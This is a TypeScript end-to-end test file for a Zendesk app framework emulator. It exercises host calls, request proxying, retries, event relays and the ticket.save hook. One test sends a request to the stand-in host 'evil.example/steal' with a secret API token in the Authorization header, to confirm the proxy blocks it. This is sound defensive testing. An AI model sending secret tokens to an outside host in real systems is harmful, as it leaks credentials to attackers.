import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { COLOR_SCHEME_CHANGED_EVENT } from '../../dev/workspace/zaf-events'
import { e2eEnvironment } from './support/e2e-environment'
import { translation } from './support/translations'
import { connectBrowser, openWorkspace, waitForAppText, type WorkspaceSession } from './support/workspace-page'
import { callHost, postToHost, recordHostMessages, requestViaHost, waitForHostMessage } from './support/zaf-wire'

// The workspace's side of the ZAF protocol, exercised at the wire level from inside the running app's
// frame (next to the real SDK): what the app does not happen to call today must still behave like Zendesk.

let browser: Browser
let session: WorkspaceSession
let page: Page
let frame: Frame

/**
 * The real SDK answers every save hook itself (approving when the app has no handler). Listeners on
 * `window` fire in registration order, so this one must be installed before the SDK's to be able to
 * hold the host's message back when a test asks (`window.__holdSaveHook = true`).
 */
function holdSaveHookWhenAsked(): void {
  window.addEventListener('message', (event) => {
    const hold = (window as unknown as { __holdSaveHook?: boolean }).__holdSaveHook
    if (hold && typeof event.data === 'string' && event.data.includes('"zaf.ticket.save"')) event.stopImmediatePropagation()
  })
}

beforeAll(async () => {
  browser = await connectBrowser()
})
afterAll(async () => {
  await browser?.close()
})
beforeEach(async () => {
  session = await openWorkspace(browser, { location: 'ticket_sidebar', initScript: holdSaveHookWhenAsked })
  page = session.page
  frame = await waitForAppText(page, translation(e2eEnvironment().root, 'en', 'checklist.title'))
  await recordHostMessages(frame)
})
afterEach(async () => {
  await session?.close()
})

describe('get / set / invoke', () => {
  it('answers known paths and puts unknown or out-of-location paths in errors', async () => {
    const subject = await page.evaluate(() => window.__workspace?.subject())
    const reply = await callHost(frame, 'get', ['currentUser.locale', 'ticket.requester', 'colorScheme', 'viewport.size', 'user.id', 'no.such.path'])
    expect(reply.result?.['currentUser.locale']).toBe('en')
    expect(reply.result?.['ticket.requester']).toMatchObject({ id: subject?.id, name: subject?.name })
    expect(reply.result?.colorScheme).toBe('light')
    expect(reply.result?.['viewport.size']).toMatchObject({ width: 1400, height: 900 })
    expect(Object.keys(reply.result?.errors ?? {}).sort()).toEqual(['no.such.path', 'user.id'])
    expect(reply.result?.errors?.['no.such.path']).toMatchObject({ name: expect.any(String), message: expect.any(String), path: 'no.such.path' })
  })

  it('sets the comment draft the workspace shows in its composer', async () => {
    const reply = await callHost(frame, 'set', { 'comment.text': 'Drafted by the app', 'ticket.status': 'solved' })
    expect(reply.result?.['comment.text']).toBe('Drafted by the app')
    expect(reply.result?.errors?.['ticket.status']).toBeDefined()
    await expect(page.locator('#composer-text').inputValue()).resolves.toBe('Drafted by the app')
  })

  it('shows notify as a toast, accepts instances.create and rejects unknown actions', async () => {
    const reply = await callHost(frame, 'invoke', { notify: ['Saved the evidence record', 'success'], 'instances.create': [{ location: 'modal' }], 'nav.go': ['x'] })
    expect(Object.keys(reply.result?.errors ?? {})).toEqual(['nav.go'])
    const toast = page.locator('.toast', { hasText: 'Saved the evidence record' })
    await toast.waitFor()
    await expect(toast.getAttribute('class')).resolves.toContain('toast-success')
    await expect(toast.getAttribute('role')).resolves.toBe('status')
    await callHost(frame, 'invoke', { notify: ['Could not delete', 'error', { sticky: true }] })
    await expect(page.locator('.toast-error').getAttribute('role')).resolves.toBe('alert')
  })
})

describe('client.request through the host', () => {
  it('resolves with the body, or with the complete response when httpCompleteResponse is set', async () => {
    const plain = await requestViaHost(frame, { url: '/api/v2/users/me', type: 'GET', dataType: 'json' })
    expect(plain.outcome).toBe('done')
    expect(plain.responseArgs[0]).toMatchObject({ user: { id: expect.any(Number) } })
    expect(plain.responseArgs[1]).toBe('success')

    const complete = await requestViaHost(frame, { url: '/api/v2/users/me', httpCompleteResponse: true })
    expect(complete.outcome).toBe('done')
    expect(complete.responseArgs[0]).toMatchObject({ status: 200, statusText: 'OK', responseJSON: { user: { id: expect.any(Number) } }, headers: expect.any(Object) })
    expect(typeof (complete.responseArgs[0] as { responseText: unknown }).responseText).toBe('string')
  })

  it('rejects a non-2xx with an XHR-like object', async () => {
    const missing = await requestViaHost(frame, { url: '/api/v2/users/987654321', dataType: 'json' })
    expect(missing.outcome).toBe('fail')
    expect(missing.responseArgs[0]).toMatchObject({ status: 404, statusText: expect.any(String), responseText: expect.any(String), responseJSON: expect.any(Object) })
  })

  it('retries a 429 after Retry-After by default, and passes it through with autoRetry:false', async () => {
    // A path the app itself never calls, so its own background requests can't take the injected fault.
    const path = '/api/v2/users/10001'
    await page.evaluate((p) => window.__workspace?.fake.failNext({ path: p, status: 429, headers: { 'Retry-After': '1' }, body: 'Too many requests' }), path)
    const started = Date.now()
    const retried = await requestViaHost(frame, { url: path, httpCompleteResponse: true })
    expect(retried.outcome).toBe('done')
    expect(Date.now() - started).toBeGreaterThanOrEqual(900)
    const statuses = await page.evaluate(
      (p) => window.__workspace?.log.entries().filter((e) => e.path === p).slice(0, 2).map((e) => [e.status, e.retryAfterSeconds ?? null]),
      path,
    )
    expect(statuses).toEqual([[200, null], [429, 1]])

    await page.evaluate((p) => window.__workspace?.fake.failNext({ path: p, status: 429, headers: { 'Retry-After': '30' }, body: 'Too many requests' }), path)
    const passed = await requestViaHost(frame, { url: path, httpCompleteResponse: true, autoRetry: false })
    expect(passed.outcome).toBe('fail')
    expect(passed.responseArgs[0]).toMatchObject({ status: 429, headers: { 'retry-after': '30' } })
  })

  it('refuses another Zendesk account through the proxy and keeps secure settings to whitelisted domains', async () => {
    const other = await requestViaHost(frame, { url: 'https://other.zendesk.com/api/v2/users/me' })
    expect(other.responseArgs[0]).toMatchObject({ status: 403 })
    const notWhitelisted = await requestViaHost(frame, { url: 'https://evil.example/steal', secure: true, headers: { Authorization: 'Bearer {{setting.sell_api_token}}' } })
    expect(notWhitelisted.outcome).toBe('fail')
    expect(notWhitelisted.responseArgs[0]).toMatchObject({ status: 403 })

    // The substitution itself, checked on the request the bridge builds (the fake Sell API may not exist yet).
    // A string, so vitest does not rewrite the browser-side dynamic imports.
    const prepared = (await page.evaluate(`(async () => {
      const { normalizeOptions, prepareRequest } = await import('/dev/workspace/request-options.ts')
      const { createInstallation } = await import('/dev/workspace/installation.ts')
      const result = prepareRequest(
        normalizeOptions({ url: 'https://api.getbase.com/v2/contacts?token={{setting.sell_api_token}}', secure: true, type: 'POST', data: '{"t":"{{setting.sell_api_token}}"}', contentType: 'application/json', headers: { Authorization: 'Bearer {{setting.sell_api_token}}' } }),
        'https://demo.zendesk.com',
        createInstallation(),
      )
      return { kind: result.kind, url: result.request.url, auth: result.request.headers.get('authorization'), body: await result.request.text() }
    })()`)) as { kind: string; url: string; auth: string | null; body: string }
    expect(prepared.kind).toBe('ready')
    // sell_api_token is scoped to headers only (manifest.json): the URL and body keep the placeholder.
    expect(prepared.auth).toBe('Bearer demo-sell-api-token')
    expect(decodeURIComponent(prepared.url)).toContain('{{setting.sell_api_token}}')
    expect(prepared.body).toContain('{{setting.sell_api_token}}')
  })
})

describe('events and hooks', () => {
  it('sends ticket.comments.changed when the agent adds a comment, and colorScheme changes', async () => {
    await postToHost(frame, { key: 'iframe.on:ticket.comments.changed', message: { subscriberCount: 1 } })
    await postToHost(frame, { key: `iframe.on:${COLOR_SCHEME_CHANGED_EVENT}`, message: { subscriberCount: 1 } })
    const before = await page.locator('.comment').count()
    await page.getByRole('button', { name: 'Add a comment to this ticket' }).click()
    const comments = await waitForHostMessage(frame, { key: 'zaf.ticket.comments.changed' })
    const list = comments.message as { id: number; value: string; author: { id: number } }[]
    expect(list).toHaveLength(before + 1)
    expect(list.at(-1)?.author.id).toBe(await page.evaluate(() => window.__workspace?.account.defaults().agentId))
    await expect(page.locator('.comment').count()).resolves.toBe(before + 1)

    await page.getByLabel('Colour scheme').selectOption('dark')
    const scheme = await waitForHostMessage(frame, { key: `zaf.${COLOR_SCHEME_CHANGED_EVENT}` })
    expect(scheme.message).toBe('dark')
  })

  it('relays client.trigger back to the app', async () => {
    await postToHost(frame, { key: 'iframe.on:custom.ping', message: { subscriberCount: 1 } })
    await postToHost(frame, { key: 'iframe.trigger:custom.ping', message: { n: 1 } })
    expect((await waitForHostMessage(frame, { key: 'zaf.custom.ping' })).message).toEqual({ n: 1 })
  })

  it('runs the ticket.save hook: the SDK approves when the app has no handler, a cancel stops the submit', async () => {
    await postToHost(frame, { key: 'iframe.on:ticket.save', message: { subscriberCount: 1 } })
    const before = await page.locator('.comment').count()
    await page.locator('#composer-text').fill('Reply text')
    await page.getByRole('button', { name: 'Submit' }).click()
    expect((await waitForHostMessage(frame, { key: 'zaf.ticket.save' })).needsReply).toBe(true)
    await page.getByText('Submitted.').waitFor()
    await expect(page.locator('.comment').count()).resolves.toBe(before + 1)

    // Keep the real SDK from answering, and answer "cancel" ourselves.
    await frame.evaluate(() => {
      ;(window as unknown as { __holdSaveHook?: boolean }).__holdSaveHook = true
    })
    await page.locator('#composer-text').fill('Second reply')
    await page.getByRole('button', { name: 'Submit' }).click()
    await page.getByText('Submitting…').waitFor()
    // The SDK posts save-hook replies as plain objects, not JSON strings.
    await postToHost(frame, { key: 'iframe.reply:ticket.save', error: { msg: 'Finish the erasure first' } }, true)
    await page.getByText('Submit cancelled by the app: Finish the erasure first').waitFor()
    await expect(page.locator('.comment').count()).resolves.toBe(before + 1)
  })
})
